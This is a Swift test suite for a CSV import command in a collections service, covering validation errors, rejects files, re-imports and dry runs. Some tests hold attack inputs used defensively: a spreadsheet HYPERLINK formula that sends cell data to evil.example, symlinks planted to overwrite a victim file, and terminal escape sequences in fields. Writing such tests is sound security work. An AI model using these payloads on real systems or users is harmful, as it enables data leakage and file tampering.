import CollectionsImport
import CollectionsService
import Foundation
import Postgres
import TestSupport
import Testing

/// `collections-admin import`, run as an operator runs it.
@Suite struct ImportCommandTests {
    static let fixture = Task { try await ServiceFixture.make("imports") }

    /// A tenant (in `zone`) with clients C1 (USD, 30-day terms) and C2 (EUR, 10-day terms).
    func tenant(zone: String = "UTC") async throws -> Tenant {
        let fixture = try await Self.fixture.value
        let tenant = try await fixture.tenant("imp", timeZone: zone)
        let clients = try file("""
            ref,name,currency,payment_terms_days
            C1,Acme Ltd,USD,30
            C2,"Bolt, Inc.",EUR,10
            """)
        let result = try await admin("import", "clients", tenant.slug, clients)
        try #require(result.status == 0, "\(result.stderr)")
        return tenant
    }

    func file(_ text: String, name: String = "import.csv") throws -> String {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("import-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let url = folder.appendingPathComponent(name)
        try Data((text + "\n").utf8).write(to: url)
        return url.path
    }

    func admin(_ arguments: String...) async throws -> CommandResult {
        try await Executable.run("collections-admin", arguments, databaseURL: try await Self.fixture.value.database.url(as: .admin))
    }

    func summary(_ result: CommandResult) throws -> [String: Any] {
        try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any], "\(result.stdout) \(result.stderr)")
    }

    func count(_ table: String, _ tenant: Tenant) async throws -> Int {
        try await Self.fixture.value.service.withTenant(tenant.id, readOnly: true) { tx in
            try await tx.query("SELECT count(*) FROM \(identifier: table)").scalar(Int.self) ?? 0
        }
    }

    func invoice(_ number: String, _ tenant: Tenant) async throws -> (amount: Int, due: CalendarDate)? {
        try await Self.fixture.value.service.withTenant(tenant.id, readOnly: true) { tx in
            try await tx.query("SELECT amount_minor, due_on FROM invoices WHERE number = \(number)").first.map {
                (try $0["amount_minor"], try $0["due_on"])
            }
        }
    }

    /// Bad rows of every kind. Quoted fields span lines, so the rows are on
    /// lines 2, 4, 5, 7, 8, ... of the file.
    static let badInvoices = """
        client_ref,number,currency,amount,issued_on,due_on,memo
        C1,INV-1,USD,100.00,2013-01-05,,"two
        lines"
        C1,INV-2,USD,20,2013-01-06,,fine
        C9,INV-3,USD,10,2013-01-07,,"unknown
        client"
        C1,INV-4,USD,20,2013-01-06,,number
        C1,INV-4,USD,20,2013-01-06,,number again
        C1,INV-5,USD,12.345,2013-01-08,,too many decimals
        C1,INV-6,USD,1e5,2013-01-08,,exponent
        C1,INV-7,USD,10,13/45/2013,,not a date
        C1,INV-8,USD,-5,2013-01-08,,negative
        """

    @Test func oneBadRowRefusesTheWholeFileAndTheErrorListsEveryBadRowWithLineAndColumn() async throws {
        let tenant = try await tenant()
        let path = try file(Self.badInvoices)
        let result = try await admin("import", "invoices", tenant.slug, path)
        #expect(result.status == 1)
        #expect(result.stdout.isEmpty)
        #expect(result.stderr.split(separator: "\n").count == 1, "\(result.stderr)")
        for expected in [
            "\(path): 7 of 9 rows are bad; nothing was imported",
            "\(path):5: column client_ref: no client with ref \"C9\"",
            "\(path):7: column number: invoice number INV-4 appears 2 times in the file (lines 7 and 8)",
            "\(path):8: column number: invoice number INV-4 appears 2 times in the file (lines 7 and 8)",
            "\(path):9: column amount: \"12.345\" has more decimals than USD allows (2)",
            "\(path):10: column amount: \"1e5\" is not an amount",
            "\(path):11: column issued_on: \"13/45/2013\" is not a date: write YYYY-MM-DD",
            "\(path):12: column amount: -5 is not a positive amount",
        ] {
            #expect(result.stderr.contains(expected), "missing: \(expected)\n\(result.stderr)")
        }
        #expect(!result.stderr.contains(":2:") && !result.stderr.contains(":4:"), "lines 2 and 4 are good")
        #expect(try await count("invoices", tenant) == 0)
    }

    @Test func withRejectsTheGoodRowsAreImportedAndTheBadOnesWrittenWithTheirLineAndReason() async throws {
        let tenant = try await tenant()
        let path = try file(Self.badInvoices)
        let rejects = path + ".rejects.csv"
        let result = try await admin("import", "invoices", tenant.slug, path, "--rejects", rejects, "--format", "json")
        #expect(result.status == 0, "\(result.stderr)")
        let imported = try summary(result)
        #expect(imported["rows_read"] as? Int == 9)
        #expect(imported["inserted"] as? Int == 2)
        #expect(imported["rejected"] as? Int == 7)
        #expect(imported["rejects_file"] as? String == rejects)
        #expect(try await count("invoices", tenant) == 2)
        #expect(try await invoice("INV-1", tenant)?.amount == 10000)

        let written = try String(contentsOfFile: rejects, encoding: .utf8)
        let lines = written.components(separatedBy: "\r\n")
        #expect(lines.first == "client_ref,number,currency,amount,issued_on,due_on,memo,line,reason")
        #expect(lines.count == 9, "header, 7 rows, and the empty string after the last line end")
        #expect(lines.contains("C9,INV-3,USD,10,2013-01-07,,\"unknown\nclient\",5,\"column client_ref: no client with ref \"\"C9\"\" (import the clients first)\""), "\(written)")
        #expect(lines.contains("C1,INV-5,USD,12.345,2013-01-08,,too many decimals,9,\"column amount: \"\"12.345\"\" has more decimals than USD allows (2)\""), "\(written)")
        // Fixed and imported again: only the new rows go in, the rest is unchanged.
        let fixed = try file("""
            client_ref,number,currency,amount,issued_on
            C1,INV-1,USD,100.00,2013-01-05
            C1,INV-2,USD,20,2013-01-06
            C1,INV-4,USD,20,2013-01-06
            C1,INV-5,USD,12.34,2013-01-08
            """)
        let again = try summary(try await admin("import", "invoices", tenant.slug, fixed, "--format", "json"))
        #expect(again["inserted"] as? Int == 2)
        #expect(again["unchanged"] as? Int == 2)
    }

    /// The type and permission bits of `path` itself (a symlink is not followed).
    func mode(_ path: String) -> (regular: Bool, permissions: mode_t) {
        var info = stat()
        guard lstat(path, &info) == 0 else { return (false, 0) }
        return (info.st_mode & S_IFMT == S_IFREG, info.st_mode & 0o777)
    }

    @Test func theRejectsFileIsReadableByItsOwnerOnlyAndASymlinkInItsPlaceIsReplacedNotFollowed() async throws {
        let tenant = try await tenant()
        let path = try file(Self.badInvoices)
        let folder = URL(fileURLWithPath: path).deletingLastPathComponent()
        let victim = folder.appendingPathComponent("victim.txt").path
        try Data("precious\n".utf8).write(to: URL(fileURLWithPath: victim))
        let rejects = folder.appendingPathComponent("rejects.csv").path
        try FileManager.default.createSymbolicLink(atPath: rejects, withDestinationPath: victim)
        let result = try await admin("import", "invoices", tenant.slug, path, "--rejects", rejects, "--format", "json")
        #expect(result.status == 0, "\(result.stderr)")
        #expect(try String(contentsOfFile: victim, encoding: .utf8) == "precious\n")
        #expect(mode(rejects) == (true, 0o600))
        #expect(try String(contentsOfFile: rejects, encoding: .utf8).hasPrefix("client_ref,number,currency,amount,issued_on,due_on,memo,line,reason\r\n"))
        // No temporary file is left behind.
        #expect(Set(try FileManager.default.contentsOfDirectory(atPath: folder.path)) == ["import.csv", "victim.txt", "rejects.csv"])

        // A readable file already there is replaced by one readable by its owner only.
        let existing = folder.appendingPathComponent("existing.csv").path
        try Data("old\n".utf8).write(to: URL(fileURLWithPath: existing))
        chmod(existing, 0o644)
        let again = try await admin("import", "invoices", tenant.slug, path, "--rejects", existing, "--dry-run")
        #expect(again.status == 0, "\(again.stderr)")
        #expect(mode(existing) == (true, 0o600))
    }

    @Test func aSymlinkPlantedAtAGuessableTemporaryNameIsNeverFollowed() async throws {
        let fixture = try await Self.fixture.value
        let tenant = try await tenant()
        let path = try file(Self.badInvoices)
        let folder = URL(fileURLWithPath: path).deletingLastPathComponent()
        let victim = folder.appendingPathComponent("victim.txt").path
        try Data("precious\n".utf8).write(to: URL(fileURLWithPath: victim))
        let rejects = folder.appendingPathComponent("rejects.csv").path
        // In process, so the process id in the name the importer once used is known.
        let planted = [rejects + ".partial-\(getpid())", rejects + ".partial", rejects + ".tmp"]
        for link in planted { try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: victim) }
        let summary = try await Importer(database: fixture.service, tenant: tenant).run(
            .invoices, path: path, options: ImportOptions(rejectsPath: rejects, actor: "test"))
        #expect(summary.rejected == 7)
        #expect(try String(contentsOfFile: victim, encoding: .utf8) == "precious\n")
        #expect(mode(rejects) == (true, 0o600))
        for link in planted { #expect(mode(link).regular == false, "\(link) is still the planted link") }
    }

    @Test func aControlCharacterInATextFieldIsABadRowNamingLineAndColumnAndANoteBodyMayHoldLineBreaks() async throws {
        let tenant = try await tenant()
        let clients = try file("""
            ref,name,phone,email
            C7,Evil\u{1B}[2J\u{1B}[31mCorp,,
            C8,Fine Co,555\u{9B}0100,
            C9,Also Fine,,ap\u{1B}@x.test
            """)
        let refused = try await admin("import", "clients", tenant.slug, clients)
        #expect(refused.status == 1)
        for expected in [
            "\(clients): 3 of 3 rows are bad; nothing was imported",
            "\(clients):2: column name: contains the control character U+001B (escape) at character 5",
            "\(clients):3: column phone: contains the control character U+009B (CSI) at character 4",
            "\(clients):4: column email: contains the control character U+001B (escape) at character 3",
        ] {
            #expect(refused.stderr.contains(expected), "missing: \(expected)\n\(refused.stderr)")
        }
        #expect(try await count("clients", tenant) == 2, "the tenant's C1 and C2 only")

        // A value quoted back in a message (here, a date) reaches the terminal escaped.
        let dates = try await admin("import", "invoices", tenant.slug, try file("""
            client_ref,number,currency,amount,issued_on
            C1,X-1,USD,10,2013\u{1B}[31m
            """))
        #expect(dates.status == 1)
        #expect(dates.stderr.contains("\"2013\\x1b[31m\" is not a date"), "\(dates.stderr)")
        #expect(!dates.stderr.unicodeScalars.contains("\u{1B}"))

        let notes = try file("""
            client_ref,noted_at,channel,body
            C1,2013-02-01,call,"Called twice.\r
            Owner:\tnext week"
            C1,2013-02-02,call,"no\u{7}bell"
            """)
        let imported = try await admin("import", "notes", tenant.slug, notes, "--rejects", notes + ".bad", "--format", "json")
        #expect(imported.status == 0, "\(imported.stderr)")
        #expect(try summary(imported)["inserted"] as? Int == 1)
        let rejected = try String(contentsOfFile: notes + ".bad", encoding: .utf8)
        #expect(rejected.contains(
            ",4,\"column body: contains the control character U+0007 at character 3: control characters other than tab, line feed and carriage return are not allowed\""),
            "\(rejected)")
        let body = try await Self.fixture.value.service.withTenant(tenant.id, readOnly: true) { tx in
            try await tx.query("SELECT body FROM contact_notes").scalar(String.self)
        }
        #expect(body == "Called twice.\r\nOwner:\tnext week")
    }

    @Test func cellsASpreadsheetWouldRunAsFormulasAreNeutralisedInTheRejectsFile() async throws {
        let tenant = try await tenant()
        let path = try file("""
            client_ref,number,currency,amount,issued_on,memo
            C1,F-1,USD,-12.50,2013-01-05,=HYPERLINK("http://evil.example/?"&A1;"click")
            C1,F-2,USD,-3,2013-01-05,+1-555-0100
            C1,@F-3,USD,-7,2013-01-05,-2+3
            """)
        let result = try await admin("import", "invoices", tenant.slug, path, "--rejects", path + ".bad")
        #expect(result.status == 0, "\(result.stderr)")
        let lines = try String(contentsOfFile: path + ".bad", encoding: .utf8).components(separatedBy: "\r\n")
        #expect(lines.count == 5, "\(lines)")
        #expect(lines[1].hasPrefix("C1,F-1,USD,-12.50,2013-01-05,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")\",2,"), "\(lines[1])")
        #expect(lines[2].hasPrefix("C1,F-2,USD,-3,2013-01-05,'+1-555-0100,3,"), "\(lines[2])")
        #expect(lines[3].hasPrefix("C1,'@F-3,USD,-7,2013-01-05,'-2+3,4,"), "\(lines[3])")
    }

    @Test func importingTheSameFileAgainChangesNothing() async throws {
        let tenant = try await tenant()
        let path = try file("""
            number,amount,client_ref,currency,issued_on,extra column
            A-1,100,C1,usd,2013-01-05,ignored
            A-2,30.5,C2,EUR,2013-01-05,ignored
            """)
        let first = try summary(try await admin("import", "invoices", tenant.slug, path, "--format", "json"))
        #expect(first["inserted"] as? Int == 2)
        let second = try summary(try await admin("import", "invoices", tenant.slug, path, "--format", "json"))
        #expect(second["inserted"] as? Int == 0)
        #expect(second["unchanged"] as? Int == 2)
        #expect(second["rejected"] as? Int == 0)
        #expect(try await count("invoices", tenant) == 2)
        // Without due_on: the client's payment terms after the issue date.
        #expect(try await invoice("A-1", tenant)?.due == CalendarDate("2013-02-04"))
        #expect(try await invoice("A-2", tenant)?.due == CalendarDate("2013-01-15"))
        #expect(try await invoice("A-2", tenant)?.amount == 3050)
        let table = try await admin("import", "invoices", tenant.slug, path)
        #expect(table.stdout.contains("2 rows read, 0 inserted, 2 unchanged, 0 rejected"), "\(table.stdout)")
    }

    @Test func aStoredRowWithOtherDetailsIsABadRowNamingTheDifference() async throws {
        let tenant = try await tenant()
        _ = try await admin("import", "invoices", tenant.slug, try file("""
            client_ref,number,currency,amount,issued_on,due_on
            C1,A-1,USD,100,2013-01-05,2013-02-01
            """))
        let result = try await admin("import", "invoices", tenant.slug, try file("""
            client_ref,number,currency,amount,issued_on,due_on
            C1,A-1,USD,90,2013-01-05,2013-02-01
            """))
        #expect(result.status == 1)
        #expect(result.stderr.contains("column number: invoice A-1 already exists with different details: amount 90 USD here, 100.00 USD stored"), "\(result.stderr)")
        #expect(try await invoice("A-1", tenant)?.amount == 10000)

        let clients = try await admin("import", "clients", tenant.slug, try file("""
            ref,name,currency,credit_limit
            C1,Acme Limited,USD,
            C3,New Co,,500
            """))
        #expect(clients.status == 1)
        #expect(clients.stderr.contains("column ref: client C1 already exists with different details: name \"Acme Limited\" here, \"Acme Ltd\" stored"), "\(clients.stderr)")
        #expect(clients.stderr.contains("column credit_limit: a credit limit needs a currency"), "\(clients.stderr)")
    }

    @Test func aDryRunChecksEveryRowAndWritesNothing() async throws {
        let tenant = try await tenant()
        let path = try file("""
            client_ref,number,currency,amount,issued_on
            C1,D-1,USD,100,2013-01-05
            C2,D-2,EUR,100,2013-01-05
            """)
        let dry = try await admin("import", "invoices", tenant.slug, path, "--dry-run", "--format", "json")
        #expect(dry.status == 0, "\(dry.stderr)")
        let checked = try summary(dry)
        #expect(checked["dry_run"] as? Bool == true)
        #expect(checked["inserted"] as? Int == 2)
        #expect(try await count("invoices", tenant) == 0)
        #expect(try await count("audit_log", tenant) == 2, "the clients' import only")
        // With one of them stored, the dry run counts only the other as new.
        let one = try await admin("import", "invoices", tenant.slug, try file("""
            client_ref,number,currency,amount,issued_on
            C1,D-1,USD,100,2013-01-05
            """))
        #expect(one.status == 0, "\(one.stderr)")
        let again = try summary(try await admin("import", "invoices", tenant.slug, path, "--dry-run", "--format", "json"))
        #expect(again["inserted"] as? Int == 1 && again["unchanged"] as? Int == 1, "\(again)")
        #expect(try await count("invoices", tenant) == 1)
        let bad = try await admin("import", "invoices", tenant.slug, try file("""
            client_ref,number,currency,amount,issued_on
            C1,D-1,USD,1.001,2013-01-05
            """), "--dry-run")
        #expect(bad.status == 1)
        #expect(bad.stderr.contains("has more decimals than USD allows (2)"))
    }

    @Test func aFileThatCannotBeReadIsOneClearLineNamingWhere() async throws {
        let tenant = try await tenant()
        let empty = try file("")
        try Data().write(to: URL(fileURLWithPath: empty))
        let latin1 = try file("ref,name\nC5,x\n")
        try Data("ref,name\nC5,Caf".utf8 + [0xE9] + Data(" Paris\n".utf8)).write(to: URL(fileURLWithPath: latin1))
        let cases: [(String, String, String)] = [
            ("invoices", empty, "\(empty): the file is empty; the first line must be the header: client_ref,number,currency,amount,issued_on,due_on"),
            ("invoices", try file("client_ref,number,currency,amt,issued_on\nC1,X,USD,1,2013-01-01"),
             ":1: the header has no column \"amount\" (invoices files have the columns client_ref, number, currency, amount, issued_on; optional: due_on"),
            ("clients", latin1, "\(latin1):2: column name: not UTF-8: byte 0xE9 at byte offset 15 of the file"),
            ("clients", "/no/such/file.csv", "cannot open /no/such/file.csv: No such file or directory"),
            ("clients", try file("ref,name,ref\nC1,x,C1"), ":1: column \"ref\" appears twice in the header (fields 1 and 3)"),
        ]
        for (kind, path, message) in cases {
            let result = try await admin("import", kind, tenant.slug, path)
            #expect(result.status == 1, "\(path)")
            #expect(result.stderr.split(separator: "\n").count == 1, "\(result.stderr)")
            #expect(result.stderr.hasPrefix("collections-admin: error: ") && result.stderr.contains(message), "\(result.stderr)")
        }
        let headerOnly = try await admin("import", "invoices", tenant.slug, try file("client_ref,number,currency,amount,issued_on"))
        #expect(headerOnly.status == 0, "\(headerOnly.stderr)")
        #expect(headerOnly.stdout.contains("no rows after the header; nothing to import"))
        #expect(try await count("clients", tenant) == 2)
    }

    @Test func paymentsArePostedOnceByReferenceOldestDueFirstAndADifferentRowUnderTheSameReferenceIsBad() async throws {
        let tenant = try await tenant()
        _ = try await admin("import", "invoices", tenant.slug, try file("""
            client_ref,number,currency,amount,issued_on,due_on
            C1,LATE,USD,30,2013-01-05,2013-02-20
            C1,EARLY,USD,40,2013-01-10,2013-02-01
            C2,EURO,EUR,10,2013-01-01,2013-01-15
            """))
        let payments = try file("""
            client_ref,reference,currency,amount,received_on,invoice_number
            C1,PAY-1,USD,100,2013-03-01,
            C2,PAY-2,EUR,10,2013-03-01,EURO
            C2,PAY-3,EUR,5,2013-03-02,EURO
            C1,PAY-4,USD,1,2013-03-03,
            """)
        let first = try await admin("import", "payments", tenant.slug, payments, "--rejects", payments + ".bad", "--format", "json")
        #expect(first.status == 0, "\(first.stderr)")
        let posted = try summary(first)
        // The bad row is refused alone; the row after it is posted.
        #expect(posted["inserted"] as? Int == 3)
        #expect(posted["rejected"] as? Int == 1)
        let rejects = try String(contentsOfFile: payments + ".bad", encoding: .utf8)
        #expect(rejects.contains("C2,PAY-3,EUR,5,2013-03-02,EURO,4,column invoice_number: invoice EURO has a balance of 0.00 EUR; cannot apply 5.00 EUR"), "\(rejects)")

        let service = try await Self.fixture.value.service
        let pay1 = try await Payments(database: service, tenant: tenant.id).get("PAY-1", asOf: CalendarDate("2013-03-01"))
        #expect(pay1.applications.map(\.invoiceNumber) == ["EARLY", "LATE"])
        #expect(pay1.unapplied == Money(amountMinor: 3000, currency: "USD"))

        let again = try summary(try await admin("import", "payments", tenant.slug, payments, "--rejects", payments + ".bad", "--format", "json"))
        #expect(again["inserted"] as? Int == 0)
        #expect(again["unchanged"] as? Int == 3)
        #expect(try await count("payments", tenant) == 3)
        let pay4 = try await Payments(database: service, tenant: tenant.id).get("PAY-4", asOf: CalendarDate("2013-03-03"))
        #expect(pay4.applications.isEmpty && pay4.unapplied == Money(amountMinor: 100, currency: "USD"))

        let changed = try await admin("import", "payments", tenant.slug, try file("""
            client_ref,reference,currency,amount,received_on
            C1,PAY-1,USD,99,2013-03-01
            """))
        #expect(changed.status == 1)
        #expect(changed.stderr.contains(":2: column reference: payment PAY-1 was already posted with different details"), "\(changed.stderr)")
        #expect(try await count("payments", tenant) == 3)
    }

    @Test func notesAreImportedOnceAndADateAloneIsMidnightInTheTenantsTimeZone() async throws {
        let tenant = try await tenant(zone: "America/Chicago")
        let notes = try file("""
            client_ref,noted_at,channel,author,body,outcome,promise_amount,promise_date,satisfaction
            C1,2013-02-01,call,ann,"Said ""next week"", sure",promise_to_pay,50.00,2013-02-08,4
            C1,2013-02-01T10:30:00Z,Email,ann,Sent a reminder,,,,
            C2,2013-02-02,sms,bob,,no_answer,,,
            C2,2013-02-03,visit,bob,x,promise_to_pay,,,
            """)
        let first = try await admin("import", "notes", tenant.slug, notes, "--rejects", notes + ".bad", "--format", "json")
        #expect(first.status == 0, "\(first.stderr)")
        #expect(try summary(first)["inserted"] as? Int == 3)
        #expect(try String(contentsOfFile: notes + ".bad", encoding: .utf8).contains(",5,column promise_amount: a promise to pay needs a promise_amount; column promise_date: a promise to pay needs a promise_date"))
        let again = try summary(try await admin("import", "notes", tenant.slug, notes, "--rejects", notes + ".bad", "--format", "json"))
        #expect(again["inserted"] as? Int == 0)
        #expect(again["unchanged"] as? Int == 3)
        let stored = try await Self.fixture.value.service.withTenant(tenant.id, readOnly: true) { tx in
            try await tx.query("""
                SELECT to_char(noted_at AT TIME ZONE 'UTC', 'YYYY-MM-DD HH24:MI') AS at, channel, promise_amount_minor, promise_currency
                FROM contact_notes ORDER BY noted_at
                """).map { [try $0["at", as: String.self], try $0["channel", as: String.self],
                            String(try $0["promise_amount_minor", as: Int?.self] ?? 0), try $0["promise_currency", as: String?.self] ?? "-"] }
        }
        #expect(stored == [
            ["2013-02-01 06:00", "call", "5000", "USD"],
            ["2013-02-01 10:30", "email", "0", "-"],
            ["2013-02-02 06:00", "sms", "0", "-"],
        ])

        // Only the whole key makes a note the same: a body where the stored one
        // has none, or another channel, is another note.
        let more = try file("""
            client_ref,noted_at,channel,author,body,outcome,promise_amount,promise_date,satisfaction
            C1,2013-02-01T10:30:00Z,email,ann,Sent a reminder,,,,
            C2,2013-02-02,sms,bob,,no_answer,,,
            C2,2013-02-02,sms,bob,Left a message,no_answer,,,
            C1,2013-02-01T10:30:00Z,sms,ann,Sent a reminder,,,,
            """)
        let dry = try summary(try await admin("import", "notes", tenant.slug, more, "--dry-run", "--format", "json"))
        #expect(dry["inserted"] as? Int == 2)
        #expect(dry["unchanged"] as? Int == 2)
        let third = try summary(try await admin("import", "notes", tenant.slug, more, "--format", "json"))
        #expect(third["inserted"] as? Int == 2)
        #expect(third["unchanged"] as? Int == 2)
        let bodies = try await Self.fixture.value.service.withTenant(tenant.id, readOnly: true) { tx in
            try await tx.query("SELECT channel || ':' || coalesce(body, '-') AS note FROM contact_notes ORDER BY 1")
                .map { try $0["note", as: String.self] }
        }
        #expect(bodies == ["call:Said \"next week\", sure", "email:Sent a reminder", "sms:-", "sms:Left a message", "sms:Sent a reminder"])
    }

    @Test func onANonTerminalProgressIsAPlainLineEveryHundredThousandRows() async throws {
        let tenant = try await tenant()
        var text = "client_ref,number,currency,amount,issued_on\n"
        for n in 1...150_000 { text += "C1,P-\(n),USD,\(n).25,2013-01-01\n" }
        let path = try file(text)
        let result = try await admin("import", "invoices", tenant.slug, path, "--dry-run")
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stderr.contains("collections-admin: import: \(path): 100,000 rows read"), "\(result.stderr)")
        #expect(!result.stderr.contains("\r"))
        #expect(result.stdout.contains("150,000 rows read, 150,000 would be inserted"), "\(result.stdout)")
    }
}
